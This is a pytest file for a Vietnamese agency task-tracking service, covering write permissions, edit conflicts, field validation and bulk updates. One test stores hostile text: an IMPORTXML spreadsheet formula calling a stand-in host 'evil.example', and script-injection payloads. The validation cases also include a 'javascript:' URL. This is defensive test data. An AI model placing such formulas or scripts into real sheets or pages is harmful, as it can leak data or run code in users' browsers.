"""Agencies updating tasks through the one save function, on both stores: who may write,
conflicts, and the validation matrix."""

from dataclasses import replace
from datetime import date, timedelta

import pytest

from services.domain.agencies import AgencyIndex
from services.domain.errors import ConflictError, PermissionDenied, ValidationError
from services.domain.model import (
    DONE,
    IN_PROGRESS,
    NOT_STARTED,
    PENDING,
    ROLE_AGENCY,
    ROLE_LEADER,
    User,
)
from services.tasks.updates import UpdateInput, save_many, save_update, validate
from tests.conftest import ADMIN, LEADER, NOW, SNV

TODAY = NOW.date()


def registry(store):
    return AgencyIndex(store.load().agencies)


def save(store, user, task_id, **typed):
    data = UpdateInput(**{"status": IN_PROGRESS, "progress": 10, **typed})
    return save_update(store, user, store.load().task(task_id), data, NOW, registry(store))


def assert_unchanged(store, before):
    assert store.load().tasks == before.tasks and store.history() == list(before.history)


def test_agency_updates_its_own_task(store):
    rows = save(store, SNV, "NV-0001", progress=35, result="Đã triển khai")
    task = store.load().task("NV-0001")
    assert (task.status, task.progress, task.result, task.updated_by) == (
        IN_PROGRESS,
        35,
        "Đã triển khai",
        SNV.email,
    )
    assert {r.field for r in rows} == {"Trạng thái", "Tiến độ (%)", "Kết quả thực hiện"}


@pytest.mark.parametrize(
    "user, task_id",
    [
        (SNV, "NV-0002"),  # a forged id: Sở Tư pháp's task
        (LEADER, "NV-0001"),  # leaders read only
        (User("", "Khách", "", ROLE_LEADER), "NV-0001"),  # public read mode
        (User("x@y.vn", "Không cơ quan", "", ROLE_AGENCY), "NV-0001"),
        (User("tttt@y.vn", "Sở cũ", "STTTT", ROLE_AGENCY), "NV-0010"),  # merged away in 2025
        (User("x@y.vn", "Vai trò lạ", "SNV", "superuser"), "NV-0001"),  # a tampered role
    ],
)
def test_refused_writers_change_nothing(store, user, task_id):
    before = store.load()
    with pytest.raises(PermissionDenied):
        save(store, user, task_id, progress=50)
    assert_unchanged(store, before)


def test_successor_agency_and_admin_may_update(store):
    skhcn = User("kh@skhcn.gov.vn", "Sở KH&CN", "SKHCN", ROLE_AGENCY)
    save(store, skhcn, "NV-0010", progress=20)  # Sở TT&TT's task, merged into Sở KH&CN
    save(store, ADMIN, "NV-0002", progress=30)
    snap = store.load()
    assert snap.task("NV-0010").progress == 20 and snap.task("NV-0002").progress == 30


def test_task_reassigned_between_load_and_save_is_refused(store):
    seen = store.load().task("NV-0001")
    store.update_task(seen, {"lead": "SYT"}, ADMIN, NOW)
    before = store.load()
    with pytest.raises(PermissionDenied, match="Sở Y tế"):
        save_update(store, SNV, seen, UpdateInput(IN_PROGRESS, 40), NOW, registry(store))
    assert_unchanged(store, before)


def test_two_sessions_of_one_agency_conflict(store):
    colleague = replace(SNV, email="dongnghiep@snv.gov.vn")
    seen = store.load().task("NV-0024")
    save_update(store, colleague, seen, UpdateInput(IN_PROGRESS, 50), NOW, registry(store))
    mine = UpdateInput(DONE, 100, result="Kết quả của tôi")
    with pytest.raises(ConflictError) as caught:
        save_update(store, SNV, seen, mine, NOW, registry(store))
    assert caught.value.current.updated_by == colleague.email
    assert "dongnghiep@snv.gov.vn" in str(caught.value)
    assert mine.result == "Kết quả của tôi"  # the input is kept for the retry
    save_update(store, SNV, caught.value.current, mine, NOW, registry(store))  # reload, re-apply
    assert store.load().task("NV-0024").status == PENDING  # an agency's done waits for the office


def test_hostile_and_odd_text_is_stored_as_text(store):
    formula = '=IMPORTXML("http://evil.example/x","//a")'
    save(store, SNV, "NV-0001", result=formula, evidence="123/BC-SNV; https://snv.gov.vn/bc/123")
    assert store.load().task("NV-0001").result == formula
    script = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    save(store, SNV, "NV-0024", result=script)
    assert store.load().task("NV-0024").result == script
    save(store, SNV, "NV-0001", result="Hoa\u0300n tha\u0300nh\u200b tô\u0301t ")  # NFD, ZWSP
    assert store.load().task("NV-0001").result == "Hoàn thành tốt"
    save(store, SNV, "NV-0024", result="x" * 5000)
    assert len(store.load().task("NV-0024").result) == 5000


@pytest.mark.parametrize(
    "typed, field",
    [
        ({"result": "x" * 5001}, "result"),
        ({"progress": 101}, "progress"),
        ({"progress": -1}, "progress"),
        ({"progress": "nhiều"}, "progress"),
        ({"progress": 12.5}, "progress"),
        ({"progress": None}, "progress"),
        ({"status": "Xong"}, "status"),
        ({"progress": 100}, "progress"),  # 100% but not done, not confirmed
        (
            {"status": DONE, "progress": 100, "completed_on": TODAY + timedelta(days=1)},
            "completed_on",
        ),
        ({"status": DONE, "progress": 80}, "progress"),  # said, not silently made 100
        ({"status": NOT_STARTED, "progress": 50}, "progress"),  # said, not silently accepted
        ({"status": IN_PROGRESS, "progress": 33.5}, "progress"),  # said, not rounded to 33
        ({"evidence": "javascript:alert(1)"}, "evidence"),
        ({"evidence": "ftp://files/x"}, "evidence"),
    ],
)
def test_validation_matrix_refuses_with_a_message_per_field(store, typed, field):
    before = store.load()
    with pytest.raises(ValidationError) as caught:
        save(store, SNV, "NV-0001", **typed)
    assert list(caught.value.errors) == [field]
    assert caught.value.errors[field]  # a Vietnamese message next to the field
    assert_unchanged(store, before)


def test_typed_values_are_never_silently_changed():
    with pytest.raises(ValidationError) as caught:
        validate(UpdateInput(DONE, 80), TODAY)
    assert "tiến độ 100%, nhưng bạn nhập 80%" in caught.value.errors["progress"]
    with pytest.raises(ValidationError) as caught:
        validate(UpdateInput(NOT_STARTED, 50), TODAY)
    assert "tiến độ 0%, nhưng bạn nhập 50%" in caught.value.errors["progress"]
    with pytest.raises(ValidationError) as caught:
        validate(UpdateInput(IN_PROGRESS, 33.5), TODAY)
    assert "bạn nhập 33,5" in caught.value.errors["progress"]


def test_done_defaults_completion_to_today():
    changes = validate(UpdateInput(DONE, 100), TODAY)
    assert (changes["progress"], changes["completed_on"]) == (100, TODAY)
    changes = validate(UpdateInput(DONE, 100, completed_on=date(2025, 3, 1)), TODAY)
    assert changes["completed_on"] == date(2025, 3, 1)
    assert (
        validate(UpdateInput(IN_PROGRESS, 100, confirm_full_progress=True), TODAY)["progress"]
        == 100
    )
    # going back from done clears the completion date
    assert validate(UpdateInput(NOT_STARTED, 0, completed_on=TODAY), TODAY)["completed_on"] is None
    assert validate(UpdateInput(IN_PROGRESS, "50%"), TODAY)["progress"] == 50


def test_bulk_update_saves_valid_rows_and_reports_the_others(store):
    snap = store.load()
    items = [
        (snap.task("NV-0001"), UpdateInput(IN_PROGRESS, 60)),
        (snap.task("NV-0024"), UpdateInput(IN_PROGRESS, 101)),
        (snap.task("NV-0002"), UpdateInput(IN_PROGRESS, 60)),  # not SNV's
        (snap.task("NV-0001"), UpdateInput(IN_PROGRESS, 70)),
    ]  # stale after the first
    outcomes = save_many(store, SNV, items, NOW, AgencyIndex(snap.agencies))
    assert [o.saved for o in outcomes] == [True, False, False, False]
    assert outcomes[1].errors == {"progress": "Tiến độ là số nguyên từ 0 đến 100."}
    assert "không có quyền" in outcomes[2].message and "vừa được cập nhật" in outcomes[3].message
    after = store.load()
    assert after.task("NV-0001").progress == 60 and after.task("NV-0024").progress == 0
    assert len(after.history) == 2  # status and progress of NV-0001
